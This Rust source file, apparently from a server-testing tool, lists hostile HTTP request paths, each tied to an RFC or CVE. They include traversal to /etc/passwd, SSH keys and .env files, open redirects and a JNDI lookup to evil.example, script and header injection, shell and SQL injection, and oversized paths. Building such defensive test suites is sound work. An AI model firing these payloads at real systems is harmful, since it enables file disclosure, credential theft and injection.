//! Paths that climb, hide, redirect, inject, or are large.

use super::super::{Allowed, Attack, Class};

/// Paths that leave a root, name what is hidden, send the browser elsewhere, bring text into a page
/// or a header, name devices, or are very long or deep. All ask for HTML, so that error pages are
/// judged, too.
///
/// They suit a service that serves files [planted](crate::attack::plant); others have nothing that
/// they could give away, yet may still fail, redirect, or reflect.
pub fn paths() -> Vec<Attack> {
    let tables = [
        CLIMBING,
        ABSOLUTE,
        DECODED_TWICE,
        TRAPS,
        DEVICES,
        HIDDEN,
        REDIRECTS,
        MARKUP,
        INJECTIONS,
        ODD,
    ];
    let table = tables.into_iter().flatten();
    table.map(|&(name, target, why)| path(name, target, why)).chain(large()).collect()
}

fn path(name: &'static str, target: impl Into<bytes::Bytes>, why: &'static str) -> Attack {
    Attack::get(name, Class::Paths, target).header("Accept", "text/html").why(why)
}

type Table = &'static [(&'static str, &'static str, &'static str)];

const ENCODED: &str = "a path is split first, and each segment decoded once";
const BACKSLASH: &str = "JLSEC-2026-612: `%5c` separates on Windows";
const OVERLONG: &str = "RFC 3629, section 10: overlong UTF-8 is no text";

const CLIMBING: Table = &[
    ("dot-dot", "/../secret.txt", "RFC 3986, section 5.2.4: dot segments end at the root"),
    ("dot-dot-alone", "/..", "RFC 3986, section 5.2.4: dot segments end at the root"),
    ("dot-dot-slash", "/../", "RFC 3986, section 5.2.4: dot segments end at the root"),
    ("dot-dot-many", "/../../../../../../../../etc/passwd", "the shortest way to /etc/passwd"),
    ("dot-dot-inside", "/sub/../../secret.txt", "a check of the beginning only"),
    (
        "dot-dot-doubled-slash",
        "/sub//..//..//secret.txt",
        "empty segments are no directories to leave",
    ),
    ("dot-dot-behind-file", "/index.html/../../secret.txt", "a file is no directory"),
    ("dot-then-dot-dot", "/./../secret.txt", "a check of the first segment only"),
    (
        "sibling",
        "/../rootsecret/secret.txt",
        "Rack CVE-2026-22860, CVE-2026-34785: `/root` is a prefix of `/rootsecret`",
    ),
    ("sibling-encoded", "/..%2frootsecret%2fsecret.txt", "Rack CVE-2026-22860, encoded"),
    ("sibling-dots-encoded", "/%2e%2e/rootsecret/secret.txt", "Rack CVE-2026-22860, encoded"),
    ("dots-encoded", "/%2e%2e/secret.txt", ENCODED),
    ("dots-encoded-upper", "/%2E%2E/secret.txt", ENCODED),
    ("dots-half-encoded", "/.%2e/secret.txt", ENCODED),
    ("dots-other-half-encoded", "/%2e./secret.txt", ENCODED),
    ("dots-encoded-inside", "/sub/%2e%2e/%2e%2e/secret.txt", ENCODED),
    (
        "slash-encoded",
        "/..%2fsecret.txt",
        "@fastify/static CVE-2026-6414: `%2F` decoded after routing",
    ),
    (
        "slash-encoded-upper",
        "/..%2Fsecret.txt",
        "@fastify/static CVE-2026-6414: `%2F` decoded after routing",
    ),
    (
        "slash-encoded-inside",
        "/sub/..%2f..%2fsecret.txt",
        "@fastify/static CVE-2026-6414: `%2F` decoded after routing",
    ),
    ("all-encoded", "/%2e%2e%2fsecret.txt", ENCODED),
    (
        "all-encoded-many",
        "/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        ENCODED,
    ),
    ("backslash", "/..\\secret.txt", BACKSLASH),
    ("backslash-encoded", "/..%5csecret.txt", BACKSLASH),
    ("backslash-encoded-upper", "/..%5Csecret.txt", BACKSLASH),
    ("backslash-inside", "/sub/..%5c..%5csecret.txt", BACKSLASH),
    ("backslash-first", "/%5c..%5csecret.txt", BACKSLASH),
    ("backslash-and-slash", "/..%5c/secret.txt", BACKSLASH),
    ("overlong-dots", "/%c0%ae%c0%ae/secret.txt", OVERLONG),
    ("overlong-dots-3", "/%e0%80%ae%e0%80%ae/secret.txt", OVERLONG),
    ("overlong-dots-4", "/%f0%80%80%ae%f0%80%80%ae/secret.txt", OVERLONG),
    ("overlong-slash", "/..%c0%afsecret.txt", OVERLONG),
    ("overlong-slash-3", "/..%e0%80%afsecret.txt", OVERLONG),
    ("overlong-backslash", "/..%c1%9csecret.txt", OVERLONG),
    ("full-width-dots", "/%ef%bc%8e%ef%bc%8e/secret.txt", "U+FF0E is no dot: best-fit conversion"),
    ("full-width-slash", "/..%ef%bc%8fsecret.txt", "U+FF0F is no slash: best-fit conversion"),
    (
        "one-dot-leaders",
        "/%e2%80%a4%e2%80%a4/secret.txt",
        "U+2024 is no dot: compatibility normalization",
    ),
    ("division-slash", "/..%e2%88%95secret.txt", "U+2215 is no slash: best-fit conversion"),
    ("zero-width-dots", "/.%e2%80%8b./secret.txt", "U+200B is not nothing"),
    ("percent-u-dots", "/%u002e%u002e/secret.txt", "`%uXXXX` is no percent-encoding"),
    ("percent-u-slash", "/..%u2215secret.txt", "`%uXXXX` is no percent-encoding"),
    ("parameters", "/..;/secret.txt", "servlet containers drop `;...` behind the check"),
    ("parameters-named", "/..;a=b/secret.txt", "servlet containers drop `;...` behind the check"),
    ("parameters-encoded", "/..%3b/secret.txt", "servlet containers drop `;...` behind the check"),
    ("four-dots", "/....//secret.txt", "a filter that removes `../` once"),
    ("dots-in-dots", "/..././secret.txt", "a filter that removes `./` once"),
    ("three-dots", "/.../secret.txt", "three dots climbed twice on old Windows"),
    ("dots-and-space", "/..%20/secret.txt", "Windows drops trailing spaces"),
    ("dots-and-dot", "/..%2e/secret.txt", "Windows drops trailing dots"),
    ("dots-and-tab", "/..%09/secret.txt", "a parser that trims segments"),
    ("dots-and-line", "/..%0d%0a/secret.txt", "a parser that trims segments"),
    ("dots-and-nul", "/..%00/secret.txt", "a NUL ends a C string"),
    ("nul-and-dots", "/%00../secret.txt", "a NUL ends a C string"),
    ("dots-in-query", "/?/../../secret.txt", "a query is no path"),
    ("link-out", "/out", "Rack CVE-2013-0262: a symbolic link out of the root"),
    ("link-out-below", "/outdir/secret.txt", "Rack CVE-2013-0262: a symbolic link out of the root"),
    (
        "link-out-and-back",
        "/outdir/../secret.txt",
        "`..` behind a symbolic link is another directory",
    ),
];

const ABSOLUTE: Table = &[
    ("absolute", "//etc/passwd", "joining an absolute path replaces the root"),
    ("absolute-inside", "/sub//etc/passwd", "joining an absolute path replaces the root"),
    ("absolute-encoded", "/%2fetc%2fpasswd", "joining an absolute path replaces the root"),
    ("absolute-half-encoded", "/%2fetc/passwd", "joining an absolute path replaces the root"),
    ("absolute-thrice", "////etc/passwd", "joining an absolute path replaces the root"),
    ("absolute-backslash", "/%5cetc%5cpasswd", BACKSLASH),
    ("proc-environment", "//proc/self/environ", "the environment of the process"),
    ("file-url", "/file:///etc/passwd", "a path is no URL"),
    ("home", "/~root/.ssh/id_rsa", "no shell expands a path"),
    (
        "drive",
        "/C:/Windows/win.ini",
        "RUSTSEC-2022-0043: a drive letter replaces the root on Windows",
    ),
    ("drive-encoded", "/C%3a%5cWindows%5cwin.ini", "RUSTSEC-2022-0069: the same, encoded"),
    ("drive-relative", "/C:secret.txt", "RUSTSEC-2022-0082: a path relative to a drive"),
    ("drive-inside", "/sub/C:/Windows/win.ini", "RUSTSEC-2022-0043: in a later segment"),
    ("drive-lower", "/c:/windows/win.ini", "RUSTSEC-2021-0135: a drive letter of either case"),
    ("unc", "/%5c%5c127.0.0.1%5cc$%5cWindows%5cwin.ini", "Werkzeug CVE-2024-49766: a UNC path"),
    ("unc-slashes", "///127.0.0.1/c$/Windows/win.ini", "Werkzeug CVE-2024-49766: with slashes"),
    ("unc-inside", "/sub/%5c%5c127.0.0.1%5cc$", "Werkzeug CVE-2024-49766: in a later segment"),
    ("verbatim", "/%5c%5c%3f%5cC:%5cWindows%5cwin.ini", "a verbatim path of Windows"),
    ("device-path", "/%5c%5c.%5cC:%5cWindows%5cwin.ini", "a device path of Windows"),
];

const DECODED_TWICE: Table = &[
    ("double-dots", "/%252e%252e/secret.txt", ENCODED),
    ("double-slash", "/..%252fsecret.txt", ENCODED),
    ("double-backslash", "/..%255csecret.txt", ENCODED),
    ("double-all", "/%252e%252e%252fsecret.txt", ENCODED),
    ("triple-all", "/%25252e%25252e%25252fsecret.txt", ENCODED),
    ("double-percent", "/%25%32%65%25%32%65/secret.txt", ENCODED),
    ("percent-percent", "/%%32%65%%32%65/secret.txt", ENCODED),
    ("nested-digits", "/%2%66..%2%66secret.txt", ENCODED),
    ("double-name", "/%2574rap.txt", ENCODED),
    ("double-dotfile", "/%252eenv", ENCODED),
];

/// The file is served under its own name only.
const TRAPS: Table = &[
    ("trap-nul", "/trap.txt%00", "a NUL ends a C string"),
    ("trap-nul-type", "/trap.txt%00.html", "a NUL ends a C string"),
    ("trap-nul-double", "/trap.txt%2500.html", ENCODED),
    (
        "trap-slash-encoded",
        "/sub%2ftrap.txt",
        "@fastify/static CVE-2026-6414: guard and files must see the same path",
    ),
    ("trap-backslash", "/sub\\trap.txt", BACKSLASH),
    ("trap-backslash-encoded", "/sub%5ctrap.txt", BACKSLASH),
    ("trap-slash-double", "/sub%252ftrap.txt", ENCODED),
    ("trap-dot", "/trap.txt.", "Windows drops trailing dots"),
    ("trap-space", "/trap.txt%20", "Windows drops trailing spaces"),
    ("trap-line", "/trap.txt%0a", "a parser that trims paths"),
    ("trap-stream", "/trap.txt::$DATA", "the data stream of a file on NTFS"),
    ("trap-stream-encoded", "/trap.txt%3a%3a$DATA", "the data stream of a file on NTFS"),
    ("trap-short-name", "/TRAP~1.TXT", "short names of files on FAT"),
    ("trap-below", "/trap.txt/more", "a file is no directory"),
    ("trap-parameter", "/trap.txt;.html", "servlet containers drop `;...` behind the check"),
    ("trap-overlong", "/%c1%b4rap.txt", OVERLONG),
    ("trap-fragment", "/trap.txt%23.html", "`%23` begins no fragment"),
    ("trap-query", "/trap.txt%3fx", "`%3F` begins no query"),
];

const DEVICE: &str =
    "Werkzeug CVE-2025-66221, CVE-2026-21860, CVE-2026-27199: device names of Windows";
const DEVICES: Table = &[
    ("device-con", "/CON", DEVICE),
    ("device-nul", "/NUL", DEVICE),
    ("device-aux", "/aux", DEVICE),
    ("device-prn", "/PRN", DEVICE),
    ("device-com", "/COM1", DEVICE),
    ("device-lpt", "/lpt9", DEVICE),
    ("device-with-type", "/CON.txt", DEVICE),
    ("device-type-and-space", "/CON.txt%20", DEVICE),
    ("device-and-dot", "/NUL.", DEVICE),
    ("device-and-space", "/con%20", DEVICE),
    ("device-and-colon", "/NUL:", DEVICE),
    ("device-below", "/sub/NUL", DEVICE),
    ("device-as-directory", "/CON/secret.txt", DEVICE),
    ("device-superscript", "/COM%c2%b9", "cap-primitives RUSTSEC-2024-0445: digits of Latin-1"),
    ("device-console", "/CONIN$", DEVICE),
    ("device-unix", "//dev/zero", "a device without an end"),
    ("device-terminal", "//dev/stdin", "a device that waits"),
];

const DOTFILE: &str = "dotfiles are hidden";
const HIDDEN: Table = &[
    ("env", "/.env", DOTFILE),
    ("env-encoded", "/%2eenv", DOTFILE),
    ("env-below", "/sub/.env", DOTFILE),
    ("env-nul", "/.env%00.html", DOTFILE),
    ("env-behind-well-known", "/.well-known/../.env", DOTFILE),
    ("env-behind-slash", "/sub%2f.env", DOTFILE),
    ("env-behind-backslash", "/sub%5c.env", DOTFILE),
    ("htpasswd", "/.htpasswd", DOTFILE),
    ("git", "/.git/config", DOTFILE),
    ("git-doubled-slash", "//.git//config", DOTFILE),
    ("git-encoded", "/%2egit/config", DOTFILE),
    ("git-slash-encoded", "/.git%2fconfig", DOTFILE),
    ("git-dot", "/./.git/./config", DOTFILE),
    ("ssh", "/.ssh/id_rsa", DOTFILE),
];

const REDIRECT: &str = "hyper-staticfile RUSTSEC-2022-0072: `//host` in Location names a host";
const REDIRECTS: Table = &[
    ("redirect", "//evil.example", REDIRECT),
    ("redirect-slash", "//evil.example/", REDIRECT),
    ("redirect-thrice", "///evil.example", REDIRECT),
    ("redirect-dot-dot", "//evil.example/..", REDIRECT),
    ("redirect-dots-encoded", "//evil.example/%2e%2e", REDIRECT),
    ("redirect-slash-dot-dot", "//evil.example/%2f..", REDIRECT),
    ("redirect-to-directory", "//evil.example/../sub", REDIRECT),
    ("redirect-to-directory-encoded", "//evil.example/%2e%2e/sub", REDIRECT),
    ("redirect-query", "//evil.example?x=/", REDIRECT),
    ("redirect-directory", "//sub", "a directory that begins with two slashes"),
    ("redirect-directory-thrice", "///sub", "a directory that begins with three slashes"),
    (
        "redirect-dot",
        "/.//evil.example",
        "RFC 3986, section 5.2.4: without its dot the path begins with two slashes",
    ),
    ("redirect-backslash", "/\\evil.example", "browsers read a backslash as a slash"),
    ("redirect-backslash-encoded", "/%5cevil.example", "browsers read a backslash as a slash"),
    ("redirect-backslash-slash", "/%5c/evil.example/", "browsers read a backslash as a slash"),
    ("redirect-slash-encoded", "/%2fevil.example", "a Location from a decoded path"),
    ("redirect-slash-encoded-slash", "/%2f/evil.example", "a Location from a decoded path"),
    ("redirect-slashes-encoded", "/%2f%2fevil.example/%2e%2e", "a Location from a decoded path"),
    ("redirect-tab", "/%09/evil.example", "browsers drop tabs from URLs"),
    ("redirect-line", "/%0a/evil.example", "browsers drop line ends from URLs"),
    (
        "redirect-user",
        "/@evil.example",
        "`http://host@evil.example`, where a path is joined as text",
    ),
    (
        "redirect-dotted",
        "/.evil.example",
        "`http://host.evil.example`, where a path is joined as text",
    ),
    ("redirect-url", "/http://evil.example/", "a path is no URL"),
    ("redirect-url-encoded", "/http:%2f%2fevil.example%2f", "a path is no URL"),
    (
        "redirect-in-query",
        "/?next=//evil.example&url=//evil.example&return=//evil.example&redirect=//evil.example",
        "a target from the query",
    ),
    (
        "redirect-in-query-url",
        "/?next=http://evil.example&url=http://evil.example&return=http:evil.example&redirect=https:evil.example",
        "a target from the query",
    ),
    (
        "redirect-in-query-backslash",
        "/?next=/%5cevil.example&url=/%5cevil.example&return=%5c%5cevil.example&redirect=/%09/evil.example",
        "a target from the query",
    ),
    (
        "redirect-in-query-script",
        "/?next=javascript:paste_attack()&url=javascript:paste_attack()&redirect=data:text/html,x",
        "a target from the query",
    ),
];

const PAGE: &str = "Paste CVE-2010-2477: the 404 page reflected the path";
const MARKUP: Table = &[
    ("script", "/%3Cscript%3Epaste_attack()%3C/script%3E", PAGE),
    ("script-raw", "/<script>paste_attack()</script>", PAGE),
    ("script-behind-comment", "/--%3E%3Cscript%3Epaste_attack()%3C%2fscript%3E", PAGE),
    ("script-double", "/%253Cscript%253Epaste_attack()%253C%252fscript%253E", PAGE),
    ("script-upper", "/%3CSCRIPT%3Epaste_attack()%3C/SCRIPT%3E", PAGE),
    ("script-behind-title", "/%3C/title%3E%3Cscript%3Epaste_attack()%3C%2fscript%3E", PAGE),
    ("script-in-directory", "/sub/%3Cscript%3Epaste_attack()%3C%2fscript%3E/", PAGE),
    (
        "script-in-query",
        "/?q=%3Cscript%3Epaste_attack()%3C/script%3E&name=%3Cscript%3Epaste_attack()%3C/script%3E",
        PAGE,
    ),
    ("script-in-query-raw", "/sub?q=<script>paste_attack()</script>", PAGE),
    ("script-in-missing-query", "/missing?%22%3E%3Cscript%3Epaste_attack()%3C/script%3E", PAGE),
    ("image", "/%22%3E%3Cimg%20src=x%20onerror=paste_attack()%3E", PAGE),
    ("image-raw-quote", "/\"%3E%3Cimg%20src=x%20onerror=paste_attack()%3E", PAGE),
    ("attribute", "/%22%20onmouseover=%22paste_attack()%22%20x=%22", PAGE),
    ("attribute-single", "/'%20onmouseover='paste_attack()'%20x='", PAGE),
    ("attribute-backtick", "/%60%20onmouseover=paste_attack()%20%60", PAGE),
    ("script-url", "/javascript:paste_attack()", "a link made of a path"),
    ("script-url-inside", "/sub/javascript:paste_attack()", "a link made of a name"),
    (
        "script-utf-7",
        "/+ADw-script+AD4-paste_attack()+ADw-/script+AD4-",
        "a page without a charset",
    ),
    (
        "script-full-width",
        "/%ef%bc%9cscript%ef%bc%9epaste_attack()%ef%bc%9c/script%ef%bc%9e",
        "best-fit conversion",
    ),
    (
        "listing",
        "/listing/",
        "Rack CVE-2026-25500, salvo CVE-2026-22256, rama GHSA-cwv4-h3j5-w3cf, actix-files GHSA-5rrw-whjq-pmhh: names of files in a listing",
    ),
    (
        "listing-sorted",
        "/listing/?C=%22%3E%3Cscript%3Epaste_attack()%3C/script%3E&sort=%22%3E%3Cscript%3Epaste_attack()%3C/script%3E",
        "the query of a listing",
    ),
];

const SPLIT: &str = "Rack CVE-2026-26962: CR LF in what becomes a header";
const INJECTIONS: Table = &[
    ("header-line", "/%0d%0aX-Injected:%201", SPLIT),
    ("header-line-directory", "/sub%0d%0aX-Injected:%201/", SPLIT),
    ("header-line-query", "/sub?%0d%0aX-Injected:%201", SPLIT),
    ("header-line-lf", "/%0aX-Injected:%201", SPLIT),
    ("header-line-cr", "/%0dX-Injected:%201", SPLIT),
    ("header-line-double", "/%250d%250aX-Injected:%201", SPLIT),
    (
        "header-line-wide",
        "/%e5%98%8d%e5%98%8aX-Injected:%201",
        "U+560D U+560A: bytes cut off characters",
    ),
    ("header-line-cookie", "/sub?x=%0d%0aSet-Cookie:%20injected=1", SPLIT),
    ("header-line-body", "/%0d%0a%0d%0a%3Cscript%3Epaste_attack()%3C/script%3E", SPLIT),
    (
        "log-line",
        "/%0d%0a127.0.0.1%20-%20-%20%22GET%20/%22",
        "Rack CVE-2025-25184, CVE-2025-27111: lines of a log",
    ),
    ("terminal", "/%1b%5d0;title%07%1b%5b2J", "terminal escapes in a log"),
    ("format", "/%25s%25n%25x%7b%7d%7b0%7d$%7bjndi:ldap://evil.example/%7d", "a path is no format"),
    ("shell", "/;id;%7cid;$(id);%60id%60;%26%26id", "a path is no command"),
    ("command-line", "/?-s", "PHP CVE-2012-1823: a query without `=` became arguments"),
    (
        "command-line-define",
        "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        "PHP CVE-2012-1823: a query without `=` became arguments",
    ),
    (
        "include",
        "/%3C!--%23include%20virtual=%22/secret.txt%22--%3E",
        "server-side includes in a reflected path",
    ),
    ("template", "/%7b%7b7*7%7d%7d$%7b7*7%7d%3C%25=7*7%25%3E", "a path is no template"),
    ("query-as-sql", "/?id=1'%20OR%20'1'='1'%20--%20", "a query is no SQL"),
];

const PERCENT: &str = "RFC 3986, section 2.1: a `%` without two digits";
const BYTES: &str = "a path need not be UTF-8";
const ODD: Table = &[
    ("percent", "/%", PERCENT),
    ("percent-one-digit", "/%2", PERCENT),
    ("percent-no-digits", "/%zz", PERCENT),
    ("percents", "/%%%%", PERCENT),
    ("percent-sign", "/%-1%+2", PERCENT),
    ("percent-in-query", "/?%=%zz&%2=%", PERCENT),
    ("nul", "/%00", "a NUL ends a C string"),
    ("nul-directory", "/sub%00/", "a NUL ends a C string"),
    ("latin-1", "/%e9", BYTES),
    ("byte-order-marks", "/%ff%fe%ef%bb%bf", BYTES),
    ("utf-8-cut", "/%c3", BYTES),
    ("utf-8-continuation", "/%80%bf", BYTES),
    ("utf-8-surrogate", "/%ed%a0%80%ed%b0%80", BYTES),
    ("utf-8-beyond", "/%f5%80%80%80%f8%88%80%80%80", BYTES),
    ("utf-8-raw", "/\u{e9}\u{1f980}", "bytes that no target has"),
    ("right-to-left", "/%e2%80%aetxt.exe", "U+202E turns a name around"),
    ("delete", "/%7f", "a control character"),
    ("slash-slash", "//", "no segment at all"),
    ("dot", "/.", "a segment that names nothing"),
    ("dots-and-slashes", "/.//./..//.", "segments that name nothing"),
    ("question", "/??", "a query that begins with a question mark"),
    ("query-empty-pairs", "/?&&=&=&;;", "pairs without names"),
    (
        "query-brackets",
        "/?a[b][c][]=1&a[b]=2&a=3&a[=4&a]=5&[]=6",
        "names that contradict each other",
    ),
    ("query-pollution", "/?a=1&a=2&A=3&%61=4&a%00=5", "one name several times"),
    (
        "query-prototype",
        "/?__proto__[x]=1&constructor.prototype.x=1",
        "names that mean something to a language",
    ),
    (
        "query-numbers",
        "/?page=-1&limit=99999999999999999999&offset=NaN&size=1e999",
        "numbers that are none",
    ),
    ("star", "/*", "no shell expands a path"),
    ("braces", "/{a,b}|^[]", "characters that no URL has, yet clients send"),
    ("colon", "/a:b:c", "a name with colons"),
    ("tilde", "/index.html~", "what editors leave behind"),
];

fn large() -> Vec<Attack> {
    let why = "a path is looked at in linear time, and in bounded memory";
    let large =
        |name, target: String| path(name, target, why).allow(Allowed::answered().or_closed());
    let r = str::repeat;
    vec![
        large("name-of-256", format!("/{}", r("a", 256))),
        large("long-8k", format!("/{}", r("a", 8 << 10))),
        large("long-60k", format!("/{}", r("a", 60_000))),
        large("long-200k", format!("/{}", r("a", 200_000))),
        large("long-encoded", format!("/{}", r("%61", 20_000))),
        large("long-percents", format!("/{}", r("%", 60_000))),
        large("long-nuls", format!("/{}", r("%00", 20_000))),
        large("long-dots", format!("/{}", r(".", 60_000))),
        large("deep", r("/a", 30_000)),
        large("deep-directory", format!("{}/", r("/sub", 15_000))),
        large("deep-slashes", r("/", 60_000)),
        large("deep-dots", r("/.", 30_000)),
        large("deep-climb", format!("{}/etc/passwd", r("/..", 19_000))),
        large("deep-climb-encoded", format!("{}/etc/passwd", r("/%2e%2e", 8_000))),
        large("deep-there-and-back", format!("{}/../secret.txt", r("/sub/..", 8_000))),
        large("deep-semicolons", format!("/a{}", r(";a=b", 15_000))),
        large("long-query", format!("/?{}", r("a", 60_000))),
        large("query-of-many", format!("/?{}", r("a=b&", 15_000))),
        large("query-of-ampersands", format!("/?{}", r("&", 60_000))),
        large("query-deep", format!("/?a{}=1", r("[a]", 20_000)))
            .why("Rack CVE-2025-46727, CVE-2025-59830: bounds for queries"),
    ]
}
